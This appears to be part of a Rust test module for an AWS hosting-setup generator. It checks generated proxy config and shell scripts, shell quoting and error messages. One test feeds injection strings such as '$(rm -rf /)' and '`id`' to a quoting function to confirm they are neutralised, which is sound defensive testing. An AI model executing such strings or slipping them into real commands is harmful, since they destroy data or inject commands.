    fn setup_blocks_are_valid_shell_and_toml() {
        let blocks = setup_blocks(&values(TOKEN, API, "us-east-1"), DEFAULT_STACK_NAME);
        assert_eq!(
            blocks[0].1,
            trunk_proxy_config(&values(TOKEN, API, "us-east-1")).unwrap()
        );
        assert_eq!(
            blocks[1].1,
            cloudfront_setup_script(&values(TOKEN, API, "us-east-1"), DEFAULT_STACK_NAME).unwrap()
        );
        assert_eq!(
            blocks[2].1,
            cors_commands(&values(TOKEN, API, "us-east-1")).unwrap()
        );
        assert_shell_block(&blocks[1].1);
        assert_shell_block(&blocks[2].1);
        for line in blocks[0].1.lines() {
            assert!(
                line.is_empty()
                    || line.starts_with('#')
                    || line == "[[proxy]]"
                    || line.starts_with("rewrite = \"")
                    || line.starts_with("backend = \""),
                "{line:?}"
            );
        }
    }

    #[test]
    fn shell_quoting() {
        assert_eq!(shell_quote("us-east-1"), "us-east-1");
        assert_eq!(shell_quote("CognitoDomain=a.b.c"), "CognitoDomain=a.b.c");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("a'b"), r"'a'\''b'");
        assert_eq!(shell_quote("'*'"), r"''\''*'\'''");
        for hostile in [
            "$(rm -rf /)",
            "`id`",
            "a b",
            "<resource-id>",
            "x;y|z&",
            "*",
            "~root",
            "{a,b}",
            "line\nbreak",
            "'\"\\$",
            "#not a comment",
            "!history",
        ] {
            let quoted = shell_quote(hostile);
            assert!(quoted.starts_with('\''), "{hostile} -> {quoted}");
            assert_eq!(
                shell_words(&format!("cmd {quoted} end")),
                ["cmd", hostile, "end"],
                "{hostile}"
            );
        }
        assert_eq!(command(&["a", "b c", ""]), "a 'b c' ''");
    }

    #[test]
    fn error_messages_say_what_to_do() {
        let custom = HostingError::NotExecuteApi {
            host: "api.example.com".into(),
        }
        .to_string();
        for part in [
            "api.example.com is not an execute-api host",
            "aws apigateway get-base-path-mappings --domain-name api.example.com",
            "ApiId=, Region= and Stage=",
            "--rest-api-id",
        ] {
            assert!(custom.contains(part), "{part}: {custom}");
        }
        assert!(HostingError::NoStage {
            api_url: "https://x".into()
        }
        .to_string()
        .contains("add the stage (e.g. /dev/)"));
        assert!(HostingError::NotHttps {
            field: "token endpoint",
            url: "http://127.0.0.1/".into()
        }
        .to_string()
        .contains("The token endpoint http://127.0.0.1/ is not https://"));
        assert!(HostingError::BadRegion("x".into())
            .to_string()
            .contains("\"x\" is not an AWS region"));
        assert!(HostingError::BadStackName("1".into())
            .to_string()
            .contains("start with a letter"));
        assert!(HostingError::BadUrl {
            field: "API URL",
            error: ProxyError::NoHost
        }
        .to_string()
        .starts_with("API URL: The URL has no host name"));
    }
}
